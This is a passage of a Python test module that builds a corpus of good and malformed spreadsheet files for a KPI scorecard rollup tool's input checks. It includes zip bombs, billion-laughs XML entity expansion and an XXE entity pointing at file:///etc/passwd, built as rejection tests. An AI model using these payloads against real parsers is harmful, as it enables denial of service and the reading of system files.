    "Putri",
    "Eko",
    "Lestari",
    "Fajar",
    "Nur",
    "Yusuf",
    "Ayu",
]
LAST_NAMES = [
    "Santoso",
    "Rahayu",
    "Wijaya",
    "Lestari",
    "Hidayat",
    "Kusuma",
    "Saputra",
    "Pratama",
    "Nugroho",
    "Utami",
    "Setiawan",
    "Permata",
]
LABELS = {
    "id": {
        "title": "PENILAIAN KINERJA KARYAWAN",
        "name": "Nama",
        "id": "NIK",
        "department": "Departemen",
        "role": "Jabatan",
        "period": "Periode",
        "kra": "Objective",
        "indicator": "Indikator (KPI)",
        "unit": "Satuan",
        "weight": "Bobot",
        "target": "Target",
        "actual": "Aktual",
        "score": "Skor",
        "final": "Skor Akhir",
        "total": "TOTAL",
        "kpi": "Nilai KPI",
        "no": "No",
    },
    "en": {
        "title": "EMPLOYEE PERFORMANCE REVIEW",
        "name": "Name",
        "id": "Employee ID",
        "department": "Department",
        "role": "Role",
        "period": "Period",
        "kra": "Objective",
        "indicator": "Indicator (KPI)",
        "unit": "Unit",
        "weight": "Weight",
        "target": "Target",
        "actual": "Actual",
        "score": "Score",
        "final": "Final score",
        "total": "TOTAL",
        "kpi": "KPI value",
        "no": "No",
    },
}


@dataclass
class Employee:
    employee_id: str
    name: str
    department: str = "Pemasaran"
    role: str = "Spesialis Pemasaran Digital"
    period: str = "2025"


@dataclass
class Card:
    """A hand-made scorecard sheet: who, its KPI rows (kra, indicator, weight, target, actual) and its
    layout. `cells(i, field)` names the cell of KPI row i's field, as the rollup's issues name it."""

    employee: Employee
    kpis: list[list[Any]]
    lang: str = "id"
    title: bool = True
    left: int = 0  # columns left empty before the table
    numbered: bool = False  # a "No" column first
    unit: bool = False  # a "Satuan" column after the indicator
    blank_after_header: bool = False
    cached: bool = True  # formulas carry their results (False: as after an unreadable input)
    sheet: str = "KPI"

    def columns(self) -> dict[str, int]:
        keys = (
            (["no"] if self.numbered else [])
            + ["kra", "indicator"]
            + (["unit"] if self.unit else [])
            + ["weight", "target", "actual", "score", "final"]
        )
        return {k: self.left + i for i, k in enumerate(keys)}

    @property
    def header_row(self) -> int:  # 0-based
        return 8 if self.title else 6

    @property
    def first_row(self) -> int:  # 0-based row of the first KPI
        return self.header_row + 1 + (1 if self.blank_after_header else 0)

    def cell(self, i: int, key: str) -> str:
        return f"{col_letter(self.columns()[key])}{self.first_row + i + 1}"

    def result(self) -> float | None:
        """The KPI value the rollup must compute, or None when a row cannot be read."""
        try:
            weights = [float(k[2]) for k in self.kpis]
            targets = [float(k[3]) for k in self.kpis]
            actuals = [float(k[4]) for k in self.kpis]
        except (TypeError, ValueError):
            return None
        return float(score_scorecard(weights, actuals, targets, policy=default_policy()).kpi_value)

    def sheet_obj(self, state: str = "visible", protect: bool = False) -> Sheet:
        words = LABELS[self.lang]
        cols = self.columns()
        width = max(cols.values()) + 1
        rows: list[list[Any]] = []

        def line(**values: Any) -> list[Any]:
            row: list[Any] = [None] * width
            for key, value in values.items():
                row[cols[key] if key in cols else self.left + int(key[1:])] = value
            return row

        if self.title:
            rows += [line(c0=words["title"]), []]
        e = self.employee
        for key, value in (
            ("name", e.name),
            ("id", e.employee_id),
            ("department", e.department),
            ("role", e.role),
            ("period", e.period),
        ):
            rows.append(line(c0=words[key], c1=value))
        rows.append([])
        rows.append(line(**{k: words[k] for k in cols}))
        if self.blank_after_header:
            rows.append([])
        result = (
            score_scorecard([k[2] for k in self.kpis], [k[4] for k in self.kpis], [k[3] for k in self.kpis], policy=default_policy())
            if self.cached and self.result() is not None
            else None
        )
        merges = []
        start = None
        for i, (kra, indicator, weight, target, actual) in enumerate(self.kpis):
            r = self.first_row + i + 1
            w, t, a = (col_letter(cols[k]) for k in ("weight", "target", "actual"))
            score = Formula(f"{a}{r}/{t}{r}*100", float(result.scores[i]) if result is not None else None)
            final = Formula(
                f"{w}{r}*{col_letter(cols['score'])}{r}/100",
                float(result.finals[i]) if result is not None else None,
            )
            values = dict(
                kra=kra or None,
                indicator=indicator,
                weight=weight,
                target=target,
                actual=actual,
                score=score,
                final=final,
            )
            if self.numbered:
                values["no"] = i + 1
            if self.unit:
                values["unit"] = "%" if "%" in str(indicator) else "jumlah"
            rows.append(line(**values))
            if kra:
                if start is not None and i - 1 > start:
                    merges.append(
                        f"{col_letter(cols['kra'])}{self.first_row + start + 1}:"
                        f"{col_letter(cols['kra'])}{self.first_row + i}"
                    )
                start = i
        last = len(self.kpis) - 1
        if start is not None and last > start:
            merges.append(
                f"{col_letter(cols['kra'])}{self.first_row + start + 1}:"
                f"{col_letter(cols['kra'])}{self.first_row + last + 1}"
            )
        top, bottom = self.first_row + 1, self.first_row + len(self.kpis)
        wl, fl = col_letter(cols["weight"]), col_letter(cols["final"])
        total_weight = float(sum(k[2] for k in self.kpis)) if result is not None else None
        total_final = float(result.finals.sum()) if result is not None else None
        rows.append(
            line(
                **{
                    ("no" if self.numbered else "kra"): words["total"],
                    "weight": Formula(f"SUM({wl}{top}:{wl}{bottom})", total_weight),
                    "final": Formula(f"SUM({fl}{top}:{fl}{bottom})", total_final),
                }
            )
        )
        rows.append([])
        kpi = float(result.kpi_value) if result is not None else None
        rows.append(line(c0=words["kpi"], c1=Formula(f"{fl}{len(rows) - 1}/{wl}{len(rows) - 1}*100", kpi)))
        return Sheet(self.sheet, rows, merges, state=state, protect=protect)


def golden_kpis(lang: str = "id") -> list[list[Any]]:
    rows = [list(k) for k in GOLDEN_ID]
    if lang == "en":
        for row, (kra, indicator) in zip(rows, GOLDEN_EN):
            row[0], row[1] = kra, indicator
    return rows


# --- the corpus ---------------------------------------------------------------------------------------------


class _Builder:
    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.cases: list[Case] = []
        self.rng = random.Random(20250131)
        self.serial = 1000

    def employee(self, **kw: Any) -> Employee:
        self.serial += 1
        name = f"{self.rng.choice(FIRST_NAMES)} {self.rng.choice(LAST_NAMES)}"
        return Employee(kw.pop("employee_id", f"E{self.serial}"), kw.pop("name", name), **kw)

    def kpis(self, lang: str = "id") -> list[list[Any]]:
        rows = golden_kpis(lang)
        for row in rows:
            row[4] = round(row[3] * self.rng.uniform(0.6, 1.4), 0 if row[3] >= 5 else 1)
        return rows

    def write(self, rel: str | bytes, data: bytes) -> Path:
        if isinstance(rel, bytes):  # a name that is no UTF-8: only bytes can say it
            raw = os.path.join(os.fsencode(self.folder), rel)
            os.makedirs(os.path.dirname(raw), exist_ok=True)
            with open(raw, "wb") as f:
                f.write(data)
            return Path(os.fsdecode(raw))
        path = self.folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path

    def add(self, rel: str | bytes, data: bytes, kind: str, expect: str | None, **kw: Any) -> Case:
        stage = kw.pop("stage", PREFLIGHT if expect in PREFLIGHT_CODES else ROLLUP)
        severity = kw.pop("severity", None)
        if expect is not None and severity is None:
            severity = PREFLIGHT_SEVERITY.get(expect, "error") if stage == PREFLIGHT else DATA_CODES[expect]
        case = Case(self.write(rel, data), kind, expect, stage, severity, **kw)
        self.cases.append(case)
        return case

    def good(
        self,
        rel: str | bytes,
        card: Card,
        kind: str = "good",
        *,
        data: bytes | None = None,
        texts: tuple[str, ...] = (),
        expect: str | None = None,
        **kw: Any,
    ) -> Case:
        payload = data if data is not None else xlsx_bytes([card.sheet_obj()])
        return self.add(
            rel, payload, kind, expect, cards=((card.employee.employee_id, card.result()),), texts=texts, **kw
        )


PREFLIGHT_CODES = frozenset(
    {
        "empty",
        "too-large",
        "not-a-workbook",
        "wrong-extension",
        "corrupt",
        "encrypted",
        "zip-bomb",
        "xml-entities",
        "too-many-rows",
        "too-many-columns",
        "lock-file",
        "other-file",
        "unreadable",
    }
)


def _laughs() -> str:
    parts = ["<!DOCTYPE lolz [", '<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        parts.append(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">')
    parts.append("]>")
    return "".join(parts)


def _with_doctype(doctype: str, reference: str = "") -> Callable[[bytes], bytes]:
    """Put a DOCTYPE after the XML declaration of a part (and an entity reference into its first text)."""

    def change(data: bytes) -> bytes:
        text = data.decode("utf-8")
        head, _, rest = text.partition("\n")
        if reference and "<t>" in rest:
            rest = rest.replace("<t>", f"<t>{reference}", 1)
        return f"{head}\n{doctype}{rest}".encode("utf-8")

    return change


_SHARED: dict[str, list[Case]] = {}


def shared_corpus(tmp_path_factory: Any) -> list[Case]:
    """The corpus built once per test run (several test modules use it), in pytest's temporary folder."""
    if "cases" not in _SHARED:
        _SHARED["cases"] = build_corpus(tmp_path_factory.mktemp("corpus"))
    return _SHARED["cases"]


def build_corpus(folder: str | os.PathLike[str]) -> list[Case]:
    """Write the corpus into `folder` (created if needed) and return its cases, in a fixed order."""
    b = _Builder(Path(folder))
    _good_files(b)
    _file_level(b)
    _hostile(b)
    _data_level(b)
    _texts_and_names(b)
    return b.cases


def _good_files(b: _Builder) -> None:
    golden = Card(b.employee(employee_id="E1000", name="Budi Santoso"), golden_kpis())
    b.good("good/golden-budi.xlsx", golden)
    layouts = [
        dict(),
        dict(title=False),
        dict(left=1),
        dict(numbered=True),
        dict(unit=True),
        dict(blank_after_header=True),
        dict(lang="en"),
        dict(lang="en", left=2, title=False),
        dict(numbered=True, unit=True),
        dict(lang="en", unit=True),
    ]
    for i in range(40):
        layout = layouts[i % len(layouts)]
        lang = layout.get("lang", "id")
        card = Card(b.employee(), b.kpis(lang), **layout)
        b.good(f"good/scorecard-{i + 1:02d}.xlsx", card)
    for i in range(6):  # legacy .xls, as Excel 97-2003 saves them
        card = Card(b.employee(), b.kpis(), title=i % 2 == 0)
        sheet = card.sheet_obj()
        b.good(
            f"legacy/scorecard-{i + 1}.xls",
            card,
            kind="xls",
            data=xls_bytes([sheet], pad=4096 if i == 5 else 0),
        )
    for i in range(6):  # OpenDocument, as LibreOffice saves them
        card = Card(b.employee(), b.kpis("en" if i % 3 == 0 else "id"), lang="en" if i % 3 == 0 else "id")
        b.good(f"ods/scorecard-{i + 1}.ods", card, kind="ods", data=zip_bytes(ods_parts([card.sheet_obj()])))
    for i in range(2):  # protected sheet and workbook (no password to open): read as usual
        card = Card(b.employee(), b.kpis())
        b.good(
            f"good/protected-{i + 1}.xlsx",
            card,
            kind="protected",
            data=xlsx_bytes([card.sheet_obj(protect=True)], protect_workbook=i == 1),
        )


def _file_level(b: _Builder) -> None:
    good = xlsx_bytes([Card(b.employee(employee_id="E0999"), golden_kpis()).sheet_obj()])

    # zero bytes
    for rel in (
        "empty/empty.xlsx",
        "empty/empty.xlsm",
        "empty/empty.xls",
        "empty/empty.ods",
        "empty/EMPTY.XLSX",
        "empty/nested/deeper/empty.xlsx",
    ):
        b.add(rel, b"", "zero-byte", "empty")

    # truncated zips: cut while copying
    for i, cut in enumerate(
        (
            30,
            len(good) // 10,
            len(good) // 4,
            len(good) // 2,
            len(good) * 3 // 4,
            len(good) * 9 // 10,
            len(good) - 22,
            len(good) - 1,
        )
    ):
        b.add(f"truncated/cut-{i + 1}.xlsx", good[:cut], "truncated-zip", "corrupt")

    # corrupted zips
    parts = xlsx_parts([Card(b.employee(employee_id="E0998"), golden_kpis()).sheet_obj()])
    data = zip_bytes(parts)
    sheet_at = data.find(b"xl/worksheets/sheet1.xml")
    central = data.rfind(b"PK\x01\x02")
    eocd = data.rfind(b"PK\x05\x06")

    def patched(at: int, junk: bytes) -> bytes:
        return data[:at] + junk + data[at + len(junk) :]

    header_len = 30 + len("xl/worksheets/sheet1.xml")
    corrupt = [
        ("central-directory", patched(central, b"\xde\xad\xbe\xef" * 8)),
        ("eocd-offset", patched(eocd + 16, struct.pack("<I", 7))),
        ("local-header", patched(sheet_at - 30, b"XXXX")),
        ("sheet-data-start", patched(sheet_at + header_len - 30 + 2, b"\xff\xff\xff\xff")),
        (
            "sheet-data-middle",
            patched(
                sheet_at + header_len - 30 + 200,
                bytes(
                    b ^ 0x5A
                    for b in data[sheet_at + header_len - 30 + 200 : sheet_at + header_len - 30 + 216]
                ),
            ),
        ),
    ]
    for i, (what, blob) in enumerate(corrupt):
        b.add(f"corrupt/{i + 1}-{what}.xlsx", blob, "corrupt-zip", "corrupt")
    b.add("corrupt/6-bzip2-sheet.xlsx", zip_bytes(parts, method=zipfile.ZIP_BZIP2), "corrupt-zip", "corrupt")
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the point
        for name, part in parts + [("xl/worksheets/sheet1.xml", parts[4][1])]:
            z.writestr(zipfile.ZipInfo(name, FIXED_TIME), part, zipfile.ZIP_DEFLATED)
    b.add("corrupt/7-part-twice.xlsx", twice.getvalue(), "corrupt-zip", "corrupt")
    # a part whose headers claim 5 KB while its data unpacks to 256 MB: zipfile stops at the claimed size
    members = []
    for name, part in parts:
        m = packed(part)
        m.name = name
        if name == "xl/worksheets/sheet1.xml":
            m = repeated_member(name, part[:200], b" " * 2**20, 256, b"</worksheet>")
            m.size = 5000
        members.append(m)
    b.add("corrupt/8-size-lies.xlsx", raw_zip(members), "corrupt-zip", "corrupt")
    crc_broken = [replace(packed(part), name=name) for name, part in parts]
    crc_broken[4].crc ^= 0xFFFF
    b.add("corrupt/9-bad-crc.xlsx", raw_zip(crc_broken), "corrupt-zip", "corrupt")

    # other files with a workbook's name
    png = (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + b"IHDR"
        + struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
        + b"\x1f\x15\xc4\x89"
        + struct.pack(">I", 0)
        + b"IEND\xaeB`\x82"
    )
    csv = "Objective,Indikator (KPI),Bobot,Target,Aktual\nMengelola blog,Artikel,15,40,50\n".encode()
    renamed = [
        ("photo.xlsx", png),
        ("scan.xlsx", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(200)),
        ("anim.xlsm", b"GIF89a" + bytes(50)),
        ("report.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
        ("export.xlsx", csv),
        ("export-semicolon.xls", csv.replace(b",", b";")),
        ("notes.xlsx", "Catatan penilaian: kirim ulang minggu depan.\n".encode()),
        ("notes-utf16.xlsx", "\ufeffCatatan, UTF-16\n".encode("utf-16-le")),
        ("web-export.xls", b"<html><body><table><tr><td>Bobot</td><td>15</td></tr></table></body></html>"),
        ("web-page.xlsx", b"<!DOCTYPE html>\n<html><head><title>KPI</title></head><body></body></html>"),
        (
            "spreadsheet-2003.xls",
            b'<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:'
            b'spreadsheet"><Worksheet ss:Name="KPI"/></Workbook>',
        ),
        ("random.xlsx", random.Random(7).randbytes(4096)),
        ("empty-zip.xlsx", zip_bytes([])),
        ("zip-of-text.xlsx", zip_bytes([("readme.txt", b"not a workbook")])),
        (
            "letter.xlsx",
            zip_bytes([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]),
        ),
        (
            "letter.ods",
            zip_bytes(
                [
                    ("mimetype", b"application/vnd.oasis.opendocument.text"),
                    ("content.xml", b"<office:document-content/>"),
                ]
            ),
        ),
        ("program.xlsx", b"MZ\x90\x00" + bytes(300)),
        ("document.xls", b"{\\rtf1\\ansi Hello}"),
        ("word-97.xls", cfb_bytes([("WordDocument", bytes(5000)), ("1Table", bytes(100))])),
        ("archive.xlsx", b"\x1f\x8b\x08\x00" + bytes(100)),
    ]
    for name, blob in renamed:
        b.add(f"renamed/{name}", blob, "renamed", "not-a-workbook")

    # workbooks with another workbook's extension
    ods = zip_bytes(ods_parts([Card(b.employee(employee_id="E0997"), golden_kpis()).sheet_obj()]))
    xls = xls_bytes([Card(b.employee(employee_id="E0996"), golden_kpis()).sheet_obj()])
    xlsb = zip_bytes([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.bin", b"\x83\x01\x00")])
    for name, blob in (
        ("xlsx-as.xls", good),
        ("xlsx-as.ods", good),
        ("ods-as.xlsx", ods),
        ("xls-as.xlsx", xls),
        ("xlsb-as.xlsx", xlsb),
    ):
        b.add(f"wrong-extension/{name}", blob, "wrong-extension", "wrong-extension")

    # password-protected workbooks
    encrypted = [
        ("agile-small.xlsx", encrypted_ooxml(1, 1500)),
        ("agile-large.xlsx", encrypted_ooxml(2, 20_000)),
        ("standard.xlsx", encrypted_ooxml(3, 9000, standard=True)),
        ("with-dataspaces.xlsx", encrypted_ooxml(4, 6000, dataspaces=True)),
        ("macro.xlsm", encrypted_ooxml(5, 3000)),
        ("ooxml-named.xls", encrypted_ooxml(6, 5000)),
        (
            "rc4.xls",
            xls_bytes(
                [Card(b.employee(employee_id="E0995"), golden_kpis()).sheet_obj()], filepass=RC4_FILEPASS
            ),
        ),
        (
            "cryptoapi.xls",
            xls_bytes(
                [Card(b.employee(employee_id="E0994"), golden_kpis()).sheet_obj()],
                filepass=CRYPTOAPI_FILEPASS,
                pad=5000,
            ),
        ),
        (
            "xor.xls",
            xls_bytes(
                [Card(b.employee(employee_id="E0993"), golden_kpis()).sheet_obj()], filepass=XOR_FILEPASS
            ),
        ),
        (
            "libreoffice.ods",
            zip_bytes(
                ods_parts([Card(b.employee(employee_id="E0992"), golden_kpis()).sheet_obj()], encrypted=True)
            ),
        ),
        (
            "libreoffice-2.ods",
            zip_bytes(
                ods_parts([Card(b.employee(employee_id="E0991"), b.kpis()).sheet_obj()], encrypted=True)
            ),
        ),
    ]
    for name, blob in encrypted:
        b.add(f"encrypted/{name}", blob, "encrypted", "encrypted")
    zipcrypto = [replace(packed(part), name=name) for name, part in parts]
    blob = bytearray(raw_zip(zipcrypto))
    central = struct.unpack_from("<I", blob, len(blob) - 22 + 16)[0]
    for m in zipcrypto:  # general purpose flag bit 0: the zip's own (weak) encryption
        blob[m.offset + 6] |= 1
        blob[central + 8] |= 1
        central += 46 + len(m.name.encode())
    b.add("encrypted/zip-password.xlsx", bytes(blob), "encrypted", "encrypted")

    # Excel's lock files and files that are no workbook at all
    owner = b"\x0bBudi Santoso".ljust(54, b" ") + "Budi Santoso".encode("utf-16-le").ljust(111, b"\0")
    for name, blob in (
        ("~$scorecard-01.xlsx", owner),
        ("~$budi.xlsm", owner),
        ("~$old.xls", owner),
        ("~$zero.xlsx", b""),
    ):
        b.add(f"locks/{name}", blob, "lock-file", "lock-file")
    for name, blob in (
        ("notes.txt", b"kirim sebelum tanggal 5"),
        ("Thumbs.db", bytes(64)),
        (".DS_Store", bytes(64)),
        ("desktop.ini", b"[.ShellClassInfo]\r\n"),
        (".~lock.scorecard.ods#", b"Budi,host,0;"),
        ("scorecard.csv", csv),
        ("scorecard-01.xlsx.bak", good),
    ):
        b.add(f"other/{name}", blob, "other-file", "other-file")

    # too big on disk: 51 MB (zeros after a real workbook, a sparse file on most file systems)
    path = b.write("large/huge.xlsx", good)
    with open(path, "r+b") as f:
        f.truncate(51 * 2**20)
    b.cases.append(Case(path, "too-large", "too-large", PREFLIGHT, "error"))


def _hostile(b: _Builder) -> None:
    parts = xlsx_parts([Card(b.employee(employee_id="E0990"), golden_kpis()).sheet_obj()])
    sheet = dict(parts)["xl/worksheets/sheet1.xml"]
    prefix = sheet[: sheet.index(b"<sheetData>") + len(b"<sheetData>")]
    suffix = sheet[sheet.index(b"<sheetData>") + len(b"<sheetData>") :]

    def with_member(member: RawMember, target: str = "xl/worksheets/sheet1.xml") -> bytes:
        out = []
        for name, part in parts:
            if name == target:
                member.name = name
                out.append(member)
            else:
                out.append(replace(packed(part), name=name))
        return raw_zip(out)

    space = b" " * 2**20
    # zip bombs: about 2 MB on disk, gigabytes unpacked
    b.add(
        "bombs/two-gigabytes.xlsx",
        with_member(repeated_member("", prefix, space, 2048, suffix)),
        "zip-bomb",
        "zip-bomb",
    )
    b.add(
        "bombs/ratio.xlsx",
        with_member(repeated_member("", prefix, space, 150, suffix)),
        "zip-bomb",
        "zip-bomb",
    )
    b.add(
        "bombs/macro.xlsm",
        with_member(repeated_member("", prefix, space, 1024, suffix)),
        "zip-bomb",
        "zip-bomb",
    )
    shared = dict(parts)["xl/sharedStrings.xml"]
    b.add(
        "bombs/shared-strings.xlsx",
        with_member(
            repeated_member("", shared[:-6], b"<si><t>x</t></si>" * 60_000, 600, b"</sst>"),
            "xl/sharedStrings.xml",
        ),
        "zip-bomb",
        "zip-bomb",
    )
    ods_body = ods_content([Card(b.employee(employee_id="E0989"), golden_kpis()).sheet_obj()])
    cut = ods_body.index(b"</table:table>")
    ods_members = [
        RawMember("mimetype", ODS_MIME, zlib.crc32(ODS_MIME), len(ODS_MIME), method=0),
        repeated_member("content.xml", ods_body[:cut], space, 1500, ods_body[cut:]),
        replace(packed(ods_manifest()), name="META-INF/manifest.xml"),
    ]
    b.add("bombs/content.ods", raw_zip(ods_members), "zip-bomb", "zip-bomb")
    many = parts + [(f"xl/media/image{i}.png", b"\x89PNG") for i in range(2500)]
    b.add("bombs/many-parts.xlsx", zip_bytes(many, level=1), "zip-bomb", "zip-bomb")
    # 300 directory entries that all point at the same packed data (the "overlapping" zip bomb)
    one = repeated_member("xl/worksheets/sheet9.xml", prefix, space, 3, suffix)
    base = [replace(packed(part), name=name) for name, part in parts] + [one]
    shared_at = raw_zip([replace(m) for m in base]).find(b"xl/worksheets/sheet9.xml") - 30
    entries = [replace(m) for m in base] + [
        RawMember(f"xl/worksheets/sheet{10 + i}.xml", one.packed, one.crc, one.size, offset=shared_at)
        for i in range(300)
    ]
    b.add("bombs/overlapping.xlsx", raw_zip(entries), "zip-bomb", "zip-bomb")

    # XML entity expansion (billion laughs and friends)
    laughs = _laughs()
    entity_cases = [
        ("shared-strings.xlsx", "xl/sharedStrings.xml", _with_doctype(laughs, "&lol9;")),
        ("sheet.xlsx", "xl/worksheets/sheet1.xml", _with_doctype(laughs)),
        ("workbook.xlsx", "xl/workbook.xml", _with_doctype(laughs)),
        ("content-types.xlsx", "[Content_Types].xml", _with_doctype(laughs)),
        ("styles.xlsx", "xl/styles.xml", _with_doctype(laughs)),
        ("rels.xlsx", "_rels/.rels", _with_doctype(laughs)),
        (
            "external-entity.xlsx",
            "xl/sharedStrings.xml",
            _with_doctype('<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
        ),
        (
            "quadratic.xlsx",
            "xl/sharedStrings.xml",
            lambda d: d.replace(b"\n", b'\n<!DOCTYPE sst [<!ENTITY a "' + b"A" * 50_000 + b'">]>', 1).replace(
                b"<t>", b"<t>" + b"&a;" * 5_000, 1
            ),
        ),
        (
            "after-comment.xlsx",
            "xl/sharedStrings.xml",
            lambda d: d.replace(b"\n", b"\n<!--" + b" padding " * 1000 + b"-->" + laughs.encode(), 1),
        ),
        (
            "long-prolog.xlsx",
            "xl/sharedStrings.xml",
            lambda d: d.replace(b"\n", b"\n<!--" + b"x" * 100_000 + b"-->" + laughs.encode(), 1),
        ),
        (
            "utf16.xlsx",
            "xl/sharedStrings.xml",
            lambda d: (
                _with_doctype(laughs, "&lol9;")(d)
                .decode("utf-8")
                .replace('encoding="UTF-8"', 'encoding="UTF-16"')
                .encode("utf-16")
            ),
        ),
    ]
    for name, part, change in entity_cases:
        b.add(
            f"entities/{name}", zip_bytes(replace_part(parts, part, change)), "xml-entities", "xml-entities"
        )
    ods_card = Card(b.employee(employee_id="E0988"), golden_kpis()).sheet_obj()
    ods_parts_ = ods_parts([ods_card])
    b.add(
        "entities/content.ods",
        zip_bytes(replace_part(ods_parts_, "content.xml", _with_doctype(laughs))),
        "xml-entities",
        "xml-entities",
    )
    b.add(
        "entities/manifest.ods",
        zip_bytes(replace_part(ods_parts_, "META-INF/manifest.xml", _with_doctype(laughs))),
        "xml-entities",
        "xml-entities",
    )

    # sheets too big for a reader's grid
    big = _million_rows(prefix, suffix, 1_000_000, dimension=True)
    b.add(
        "big/million-rows.xlsx",
        zip_bytes(replace_part(parts, "xl/worksheets/sheet1.xml", lambda _: big), level=1),
        "million-rows",
        "too-many-rows",
        sheet="KPI",
        cell="A10001",
    )
    no_dimension = _million_rows(prefix, suffix, 20_000, dimension=False)
    b.add(
        "big/twenty-thousand-no-dimension.xlsx",
        zip_bytes(replace_part(parts, "xl/worksheets/sheet1.xml", lambda _: no_dimension)),
        "many-rows",
        "too-many-rows",
        sheet="KPI",
        cell="A10001",
    )
    just_over = _million_rows(prefix, suffix, 10_001, dimension=True)
    b.add(
        "big/ten-thousand-and-one.xlsx",
        zip_bytes(replace_part(parts, "xl/worksheets/sheet1.xml", lambda _: just_over)),
        "many-rows",
        "too-many-rows",
        sheet="KPI",
        cell="A10001",
    )
    far = [
        ("last-row.xlsx", '<row r="1048576"><c r="A1048576"><v>1</v></c></row>', "too-many-rows", "A1048576"),
        (
            "far-corner.xlsx",
            '<row r="100000"><c r="XFD100000"><v>2</v></c></row>',
            "too-many-rows",
            "XFD100000",
        ),
        ("far-column.xlsx", '<row r="30"><c r="XFD30"><v>3</v></c></row>', "too-many-columns", "XFD30"),
        (
            "column-1000.xlsx",
            '<row r="31"><c r="ALL31" t="inlineStr"><is><t>x</t></is></c></row>',
            "too-many-columns",
            "ALL31",
        ),
        # Row numbers of ten digits and more, and leading zeros: python-calamine takes them at their word
        # (a grid of 10^9 rows aborts the process; 8 million rows take 1.8 GB).
        ("row-ten-digits.xlsx", '<row r="32"><c r="C1000000000"><v>4</v></c></row>', "too-many-rows",
         "C1000000000"),
        ("row-leading-zeros.xlsx", '<row r="33"><c r="C00000000008000000"><v>5</v></c></row>', "too-many-rows",
         "C8000000"),
        # A row far down whose cell has no reference of its own: the cell is in that row.
        ("implicit-far-row.xlsx", '<row r="1000000000"><c><v>6</v></c></row>', "too-many-rows", "A1000000000"),
        ("column-seven-letters.xlsx", '<row r="34"><c r="AAAAAAA34"><v>7</v></c></row>', "too-many-columns",
         "AAAAAAA34"),
    ]
    for name, row, code, cell in far:
        blob = zip_bytes(
            replace_part(
                parts,
                "xl/worksheets/sheet1.xml",
                lambda d, row=row: d.replace(b"</sheetData>", row.encode() + b"</sheetData>"),
            )
        )
        b.add(f"big/{name}", blob, "far-cell", code, sheet="KPI", cell=cell)
    repeated_rows = (
        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="float" '
        'office:value="1"/></table:table-row>'
    )
    b.add(
        "big/repeated-rows.ods",
        zip_bytes(ods_parts([], content=ods_content([ods_card], extra_rows=repeated_rows))),
        "far-cell",
        "too-many-rows",
        sheet="KPI",
    )
    repeated_cols = (
        '<table:table-row><table:table-cell office:value-type="float" office:value="1" '
        'table:number-columns-repeated="16384"/></table:table-row>'
    )
    b.add(
        "big/repeated-columns.ods",
        zip_bytes(ods_parts([], content=ods_content([ods_card], extra_rows=repeated_cols))),
        "far-cell",
        "too-many-columns",
        sheet="KPI",
    )
    xls_sheet = Card(b.employee(employee_id="E0987"), golden_kpis()).sheet_obj()
    xls_sheet.rows += [[] for _ in range(60_000 - len(xls_sheet.rows))] + [[1]]
    b.add(
        "big/row-60000.xls", xls_bytes([xls_sheet]), "far-cell", "too-many-rows", sheet="KPI", cell="A60001"
    )


def _million_rows(prefix: bytes, suffix: bytes, last: int, dimension: bool) -> bytes:
    """A sheet whose scorecard is followed by rows down to `last`, written in blocks (fast)."""
    head = _strip_dimension(prefix[: -len(b"<sheetData>")])
    if dimension:
        head = head.replace(b"<sheetViews>", f'<dimension ref="A1:G{last}"/><sheetViews>'.encode(), 1)
    end = suffix.index(b"</sheetData>")
    blocks = [head, b"<sheetData>", suffix[:end]]
    for start in range(30, last + 1, 50_000):
        stop = min(start + 50_000, last + 1)
        blocks.append(
            "".join(
                f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="C{r}"><v>1</v></c></row>'
                for r in range(start, stop)
            ).encode()
        )
    blocks.append(suffix[end:])
    return b"".join(blocks)


def _strip_dimension(data: bytes) -> bytes:
    start = data.find(b"<dimension ")
    if start == -1:
        return data
    return data[:start] + data[data.index(b"/>", start) + 2 :]


def _data_level(b: _Builder) -> None:
    def card(lang: str = "id", **kw: Any) -> Card:
        return Card(b.employee(), b.kpis(lang), lang=lang, cached=False, **kw)

    def bad(
        rel: str, c: Card, kind: str, expect: str | None, row: int | None, key: str, value: Any, **kw: Any
    ) -> Case:
        if row is not None:
            c.kpis[row][{"kra": 0, "indicator": 1, "weight": 2, "target": 3, "actual": 4}[key]] = value
        cell = c.cell(row, key) if row is not None else ""
        result = c.result() if expect is None else None
        return b.add(
            rel,
            xlsx_bytes([c.sheet_obj()]),
            kind,
            expect,
            sheet=c.sheet,
            cell=kw.pop("cell", cell),
            cards=((c.employee.employee_id, result),),
            **kw,
        )

    # text where a number belongs
    for i, (key, value) in enumerate(
        (
            ("weight", "abc"),
            ("target", "abc"),
            ("actual", "abc"),
            ("actual", "N/A"),
            ("actual", "-"),
            ("target", "lima"),
        )
    ):
        bad(f"numbers/not-a-number-{i + 1}.xlsx", card(), "text-in-number", NOT_A_NUMBER, i % 7, key, value)
    c = card()
    c.kpis[3][4] = 0  # replaced below by an error cell
    sheet = c.sheet_obj()
    row = sheet.rows[c.first_row + 3]
    row[c.columns()["actual"]] = ErrorValue("#DIV/0!")
    b.add(
        "numbers/not-a-number-error-cell.xlsx",
        xlsx_bytes([sheet]),
        "text-in-number",
        NOT_A_NUMBER,
        sheet=c.sheet,
        cell=c.cell(3, "actual"),
        cards=((c.employee.employee_id, None),),
    )
    readable = [
        (1, "actual", "1.500.000", 1_500_000),
        (1, "target", "1.000.000", 1_000_000),
        (0, "actual", "50,5", 50.5),
        (4, "actual", "22%", 22),
        (1, "actual", "1,500,000", 1_500_000),
        (1, "target", "Rp 1.000.000", 1_000_000),
